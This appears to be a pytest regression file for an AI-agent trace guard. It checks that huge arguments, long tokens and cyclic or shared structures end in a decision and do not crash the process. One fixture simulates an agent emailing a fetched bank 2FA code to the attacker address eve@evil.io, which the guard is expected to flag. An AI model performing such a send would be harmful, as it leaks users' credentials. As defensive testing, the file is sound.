"""Inputs that once crashed or hung the host process end in a decision instead.

Each reproduction runs in a child process (a segmentation fault must not take pytest with
it): the child exits 0 and prints what the guard answered.

Seen failing before the fix: a phrase (a text argument) of more than ~0.5 MB of tokens, or a
sensitive token of as many characters, made pyahocorasick free its trie recursively, one C
frame per character, and the process died with SIGSEGV (sooner in a thread with a smaller
stack: a 200 KB argument in a 256 KB-stack thread).
"""

from __future__ import annotations

import subprocess
import sys
import textwrap
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardagent.trace.text import native

ROOT = Path(__file__).resolve().parent.parent


_IN_SMALL_STACK = """
import threading
threading.stack_size(256 * 1024)
out = []
def work():
    out.append(main())
thread = threading.Thread(target=work)
thread.start()
thread.join()
print(out[0])
"""


def run_child(code: str, timeout: float = 300, *, small_stack: bool = True) -> str:
    """Run `code`, then its ``main()`` (in a 256 KB-stack thread), in a fresh interpreter.

    This checkout first on the path; returns what ``main()`` returned, as printed.
    """
    source = textwrap.dedent(code) + (_IN_SMALL_STACK if small_stack else "\nprint(main())\n")
    child = subprocess.run(
        [sys.executable, "-c", source],
        cwd=ROOT,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    assert child.returncode == 0, (child.returncode, child.stderr[-2000:])
    return child.stdout


@pytest.mark.parametrize("unit", ["0x41, ", "ab ", "7 "])
@pytest.mark.parametrize("chars", [1_000, 60_000])
def test_a_long_phrase_is_read_not_crashed(unit: str, chars: int) -> None:
    body = f"({unit!r} * {chars // len(unit)})"
    out = run_child(f"""
        from tests.trace_helpers import call, facts, result, system, user
        def main():
            body = {body}
            words = " ".join(body.split()[:3])
            base = [system(), user("Mail bob@example.com what the page says: " + words),
                    call("0", "read_web_page", {{"url": "https://example.com"}}),
                    result("0", "Page: " + body)]
            f = facts(base, "send_email", {{"to": "bob@example.com", "body": body}})
            return f.fact('arg_from_trusted("body")').value
        """)
    assert out.strip() == "False", out  # the page's text: untrusted, found in it


@pytest.mark.parametrize("chars", [1_000, 20_000])
def test_a_long_sensitive_token_glued_into_the_call_is_read_not_crashed(chars: int) -> None:
    out = run_child(f"""
        from guardagent.trace.sources import encoded
        from tests.trace_helpers import call, facts, result, system, user
        def main():
            code = "a1" * {chars // 2}
            base = [system(), user("Get my 2FA code for the bank."),
                    call("1", "get_2fa_code", {{"service": "bank"}}),
                    result("1", "Your code: " + code)]
            f = facts(base, "send_email", {{"to": "eve@evil.io", "body": "x" + code + "y"}})
            flows = f.fact("secret_flow()").value
            encoded._automaton.cache_clear()  # as a busy process evicts it: in this thread
            return flows
        """)
    assert out.strip() == "True", out


def test_the_issues_two_megabyte_argument_ends_in_a_decision() -> None:
    """The report's case, in the main thread, with a budget that lets the reading finish.

    Seen failing before the fix: the process died with SIGSEGV (exit -11) after ~6 s.
    """
    out = run_child(
        """
        import json
        from guardagent import GuardAgent
        def main():
            body = "0x41, " * (2_000_000 // 6)
            trace = [{"role": "system", "content": "You are an assistant."},
                     {"role": "user", "content": "Mail bob@example.com the bytes 0x41."},
                     {"role": "assistant", "content": None, "tool_calls": [{"id": "c1",
                      "type": "function", "function": {"name": "send_email", "arguments":
                      json.dumps({"to": "bob@example.com", "body": body})}}]}]
            guard = GuardAgent(profile="assistant-trace", trace_budget_ms=600_000)
            decision = guard.check_trace(trace)
            return [decision.allowed, [u["reason"] for u in decision.unreadable]]
        """,
        timeout=600,
        small_stack=False,
    )
    assert out.strip() in ("[True, []]", "[False, []]"), out  # read to the end: a decision


_KEYS = st.text(alphabet="ab1 ", min_size=1, max_size=12)


@settings(max_examples=300, deadline=None)
@given(
    keys=st.lists(_KEYS, max_size=6),
    haystack=st.text(alphabet="ab1 ", max_size=60),
    cap=st.integers(0, 12),
)
def test_the_bounded_automaton_finds_what_a_naive_search_finds(
    keys: list[str], haystack: str, cap: int
) -> None:
    """Short keys in the native trie, long ones by str.find: every occurrence, as one trie."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(native, "MAX_KEY_CHARS", cap)
        automaton = native.Automaton((k, n) for n, k in enumerate(keys))
    assert all(len(k) > cap for k in automaton.long)
    last = {k: n for n, k in enumerate(keys)}  # a key added twice keeps its last value
    every = [
        (i + len(k) - 1, n, k)
        for k, n in last.items()
        for i in range(len(haystack))
        if haystack.startswith(k, i)
    ]
    firsts: dict[str, tuple[int, int]] = {}
    for end, n, k in every:
        firsts.setdefault(k, (end, n))
    expected = sorted(
        (end, n) for end, n, k in every if len(k) <= cap or firsts[k] == (end, n)
    )  # a long key: its first occurrence only
    assert sorted(automaton.iter(haystack)) == expected
    assert automaton.found(haystack) == {n for _, n, _ in every}


@settings(max_examples=300, deadline=None)
@given(
    keys=st.lists(_KEYS, max_size=6),
    parts=st.lists(st.text(alphabet="ab1", max_size=8), min_size=1, max_size=6),
    cap=st.integers(0, 12),
)
def test_matches_spanning_parts_cover_the_parts_a_naive_search_covers(
    keys: list[str], parts: list[str], cap: int
) -> None:
    """Which parts a key spanning a boundary covers: the same for short and long keys."""
    haystack = "".join(parts)
    ends = [0]
    for part in parts:
        ends.append(ends[-1] + len(part))

    def covered(spans: Iterable[tuple[int, int, int]]) -> set[tuple[int, int]]:
        return {
            (n, k)
            for start, end, n in spans
            for k in range(len(parts))
            if ends[k] < end
            and start < ends[k + 1]
            or ends[k] == ends[k + 1]
            and start < ends[k] < end
        }

    last = {k: n for n, k in enumerate(keys)}
    naive = [
        (i, i + len(k), n)
        for k, n in last.items()
        for i in range(len(haystack))
        if haystack.startswith(k, i) and any(i < b < i + len(k) for b in ends[1:-1])
    ]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(native, "MAX_KEY_CHARS", cap)
        automaton = native.Automaton((k, n) for n, k in enumerate(keys))
    assert covered(automaton.spanning(haystack, ends[1:-1])) == covered(naive)


def test_a_periodic_long_key_spanning_parts_costs_linear_time() -> None:
    import time

    def seconds(n: int) -> float:
        key = "a1" * native.MAX_KEY_CHARS
        parts = ["a1" * n] * 8
        ends = [len(parts[0]) * i for i in range(1, 8)]
        started = time.perf_counter()
        list(native.Automaton([(key, 0)]).spanning("".join(parts), ends))
        return time.perf_counter() - started

    small, large = seconds(20_000), seconds(200_000)
    assert large < 40 * max(small, 1e-3), (small, large)


def test_no_key_longer_than_the_cap_reaches_the_native_trie() -> None:
    automaton = native.Automaton([("x" * (native.MAX_KEY_CHARS + 1), 1), ("y" * 10, 2)])
    assert list(automaton.long) == ["x" * (native.MAX_KEY_CHARS + 1)]
    assert max(map(len, automaton._native.keys())) <= native.MAX_KEY_CHARS


_SHARED = """
import resource
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))  # a walk as a tree: MemoryError
from langchain_core.messages import AIMessage, HumanMessage, SystemMessage, ToolMessage
from guardagent import GuardAgent

def shared(kind):
    x = ["a"]
    if kind == "cycle":
        x.append(x)
        x.append(x)
        return x
    for _ in range(40):
        x = [x, x] if kind == "list" else {{"l": x, "r": x}}
    return x

def main():
    x = shared({kind!r})
    where = {where!r}
    args = {{"to": "bob@example.com", "body": "hi", **({{"extra": x}} if where == "args" else {{}})}}
    content = [{{"type": "text", "text": "Mail hi to bob@example.com", "x": x}}] \\
        if where == "content" else "Mail hi to bob@example.com"
    result = {{"data": x}} if where == "result" else "ok"
    if where == "objects":
        trace = [SystemMessage("You are an assistant."), HumanMessage("Mail hi to bob@example.com"),
                 AIMessage("", tool_calls=[{{"name": "read_inbox", "args": {{}}, "id": "c0"}}]),
                 ToolMessage("ok", tool_call_id="c0", artifact=x),
                 AIMessage("", tool_calls=[{{"name": "send_email", "args": {{**args, "x": x}},
                                             "id": "c1"}}])]
    else:
        trace = [{{"role": "system", "content": "You are an assistant."}},
                 {{"role": "user", "content": content}},
                 {{"role": "assistant", "content": None, "tool_calls": [{{"id": "c0",
                   "type": "function", "function": {{"name": "read_inbox", "arguments": {{}}}}}}]}},
                 {{"role": "tool", "tool_call_id": "c0", "content": result}},
                 {{"role": "assistant", "content": None, "tool_calls": [{{"id": "c1",
                   "type": "function", "function": {{"name": "send_email", "arguments": args}}}}]}}]
    guard = GuardAgent(profile="assistant-trace")
    decision = guard.check_trace(trace, proposed_call=(
        {{"name": "send_email", "args": {{**args, "x": x}}}} if where == "proposed" else None))
    return [decision.allowed] + [u["reason"] for u in decision.unreadable]
"""


@pytest.mark.parametrize("kind", ["list", "dict", "cycle"])
@pytest.mark.parametrize("where", ["args", "content", "result", "objects", "proposed"])
def test_values_shared_or_cyclic_are_refused_in_linear_time(kind: str, where: str) -> None:
    out = run_child(_SHARED.format(kind=kind, where=where), timeout=90)
    assert out.strip() in ("[False, 'trace_too_large']", "[False, 'unparsable_trace']"), out


@pytest.mark.parametrize("max_bytes", [1 << 10, 1 << 20])
@pytest.mark.parametrize("width", [2, 50])
def test_the_node_budget_follows_the_trace_limit(max_bytes: int, width: int) -> None:
    """A tree of a limit's size is read; a shared one larger than the limit allows is not."""
    from guardagent.readers.evidence import UnreadableEvidence
    from guardagent.trace.document.messages import check_nesting

    nodes = max(max_bytes // 2, 1 << 16)
    leaf = ["v"] * width
    fits = [leaf] * (nodes // (width + 1) - 1)  # every value visited: within the budget
    check_nesting(fits, "x", max_bytes=max_bytes)
    with pytest.raises(UnreadableEvidence) as caught:
        check_nesting([fits, fits], "x", max_bytes=max_bytes)
    assert caught.value.reason == "trace_too_large"
    assert str(nodes) in str(caught.value)


def _tree_size(value: Any) -> int:
    """Values in `value` read as a tree (itself included): the naive recursive count."""
    if isinstance(value, dict):
        return 1 + sum(_tree_size(v) for v in value.values())
    if isinstance(value, list | tuple):
        return 1 + sum(_tree_size(v) for v in value)
    return 1


_VALUES = st.recursive(
    st.none() | st.integers() | st.text(max_size=3),
    lambda kids: (
        st.lists(kids, max_size=4)
        | st.dictionaries(st.text(max_size=2), kids, max_size=4)
        | kids.map(lambda shared: [shared, shared, shared])
    ),  # one object met three times
    max_leaves=30,
)


@settings(max_examples=300, deadline=None)
@given(value=_VALUES, nodes=st.integers(1, 200))
def test_the_node_bound_is_the_size_of_the_tree_shared_objects_counted_each_time(
    value: Any, nodes: int
) -> None:
    from guardagent.trace.text.nesting import nesting_problem

    problem = nesting_problem([value], nodes)
    assert (problem is not None and problem.large) == (_tree_size(value) > nodes), problem


@pytest.mark.parametrize("objects", [1, 4])
def test_message_objects_share_one_node_bound(objects: int) -> None:
    """Each object's fields within the bound, all of them over it: refused (one bound)."""
    from langchain_core.messages import AIMessage, HumanMessage, ToolMessage

    from guardagent.readers.evidence import UnreadableEvidence
    from guardagent.trace.document.messages import parse_trace

    shared: list[Any] = ["a"]
    for _ in range(15):  # 65,535 lists met as a tree: half the bound below
        shared = [shared, shared]
    messages: list[Any] = [HumanMessage("Read my inbox.")]
    for i in range(objects):
        messages += [
            AIMessage("", tool_calls=[{"name": "read_inbox", "args": {}, "id": f"c{i}"}]),
            ToolMessage("ok", tool_call_id=f"c{i}", artifact=shared),
        ]
    messages.append(AIMessage("", tool_calls=[{"name": "read_inbox", "args": {}, "id": "z"}]))
    if objects == 1:
        assert parse_trace(messages, max_bytes=1 << 18).call.name == "read_inbox"
        return
    with pytest.raises(UnreadableEvidence) as caught:
        parse_trace(messages, max_bytes=1 << 18)
    assert caught.value.reason == "trace_too_large"
